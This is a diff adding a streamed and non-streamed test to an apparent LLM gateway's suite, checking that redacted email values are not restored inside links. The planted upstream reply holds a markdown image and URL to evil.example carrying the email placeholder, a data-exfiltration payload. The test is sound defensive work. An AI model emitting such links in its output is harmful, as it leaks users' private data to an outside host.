@@ -44,3 +44,18 @@ test('placeholders as they were given out are nothing to tell', async () => {
   const { data } = expectStatus(await ask(here.tenant.admin, question), 200).body
   expect(await restorationOf(data.id)).toEqual({ decision: 'allow', approximate: undefined, told: [] })
 })
+
+const planted = 'Done. ![x](https://evil.example/p.png?q=⟦EMAIL_1⟧) See www.evil.example/⟦EMAIL_1⟧ or ask ⟦EMAIL_1⟧.'
+
+test.each([false, true])('a value is not put into a link, which is told of; streamed: %s', async (stream) => {
+  here.upstream.reply(stream ? streamed([...planted]) : say(planted))
+  const answer = expectStatus(await ask(here.tenant.admin, question, { stream }), 200)
+  const frames = stream ? framesOf(answer.text) : []
+  const text = stream ? textOf(frames) : answer.body.data.choices[0].message.content
+  expect(text.split('anna@example.org')).toHaveLength(2)
+  expect(text).toContain('or ask anna@example.org.')
+  const id = stream ? frames.find(({ event }) => event === 'chunk')?.data.data.id : answer.body.data.id
+  const { data } = expectStatus(await here.tenant.admin.get(`/gateway/requests/${id}`), 200).body
+  const rules = data.security.policy_violations.map(({ rule_id }: { rule_id: string }) => rule_id)
+  expect(rules).toContain('markdown-exfiltration')
+})
